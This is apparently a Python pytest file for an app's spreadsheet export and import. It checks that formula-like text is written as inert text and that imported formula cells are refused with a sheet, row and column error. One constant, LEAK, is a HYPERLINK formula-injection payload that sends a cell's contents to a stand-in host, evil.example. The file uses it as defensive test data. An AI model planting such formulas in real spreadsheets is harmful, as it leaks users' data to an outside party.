"""Spreadsheets in and out: text from data stays text when written (no formula injection), and
an import reads values only, refusing a formula cell by its sheet, row and column."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import Workbook, load_workbook

from xiuhua.domain.errors import InvalidInput
from xiuhua.reports.common import FORMULA_PREFIXES, append_row
from xiuhua.services.tabular import read_xlsx, xlsx_rows

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    book = Workbook()
    texts = [LEAK, "+86 138", "-门前", "@SUM(A1)", "\tcmd", "\rcmd", "=1+1"]
    append_row(book.active, [*texts, -1500.5, 3, "普通文字", None])
    ws = load_workbook(io.BytesIO(saved(book))).active
    cells = list(ws[1])
    for cell, text in zip(cells, texts, strict=False):
        assert cell.data_type == "s" and cell.value == text  # shown unchanged, never evaluated
        assert cell.quotePrefix  # and still text when edited in Excel
    assert [(c.value, c.data_type) for c in cells[len(texts):len(texts) + 3]] == [
        (-1500.5, "n"), (3, "n"), ("普通文字", "s")]  # numbers stay numbers (negative amounts too)
    assert all(t.startswith(FORMULA_PREFIXES) for t in texts)


def test_characters_xml_cannot_carry_do_not_break_the_workbook() -> None:
    book = Workbook()
    append_row(book.active, ["路口\x07井盖\x00缺失"])
    assert load_workbook(io.BytesIO(saved(book))).active["A1"].value == "路口 井盖 缺失"


def sheet(*rows: list[object], title: str = "计划") -> bytes:
    book = Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    return saved(book)


def test_an_import_reads_plain_values() -> None:
    book = Workbook()
    book.active.title = "计划"
    append_row(book.active, ["code", "name", "amount", "day"])
    append_row(book.active, ["U-HW", "=不是公式", 12.0, datetime(2026, 10, 1)])
    append_row(book.active, [None, None, None, None])
    append_row(book.active, ["U-ZF", "执法局", -3.5, "2026-10-02"])
    data = saved(book)  # a text cell starting with “=” (as our own writer makes one) is text
    assert read_xlsx(data, ["code", "amount"]) == [
        (2, {"code": "U-HW", "name": "=不是公式", "amount": "12", "day": "2026-10-01"}),
        (4, {"code": "U-ZF", "name": "执法局", "amount": "-3.5", "day": "2026-10-02"})]
    assert dict(xlsx_rows(data, "计划"))[4] == ("U-ZF", "执法局", -3.5, "2026-10-02")


def test_an_import_refuses_a_formula_naming_its_sheet_row_and_column() -> None:
    data = sheet(["code", "name", "amount"], ["U-HW", "环卫中心", 1], ["U-ZF", "执法局", "=C2*2"])
    with pytest.raises(InvalidInput) as refused:
        read_xlsx(data, ["code"])
    assert refused.value.code == "formula_cell"
    assert refused.value.message == "工作表“计划”第 3 行 C 列是公式，请粘贴为数值后再导入"
    with pytest.raises(InvalidInput, match="第 2 行 A 列是公式"):
        list(xlsx_rows(sheet(["x"], [LEAK])))


def test_an_import_refuses_what_is_not_a_workbook_or_lacks_columns() -> None:
    with pytest.raises(InvalidInput) as refused:
        read_xlsx(b"PK\x03\x04 not really", ["code"])
    assert refused.value.code == "invalid_xlsx"
    with pytest.raises(InvalidInput) as missing:
        read_xlsx(sheet(["name"], ["x"]), ["code"])
    assert missing.value.code == "missing_columns"
    with pytest.raises(InvalidInput) as unknown:
        read_xlsx(sheet(["code"]), ["code"], sheet="标准")
    assert unknown.value.code == "missing_sheet"
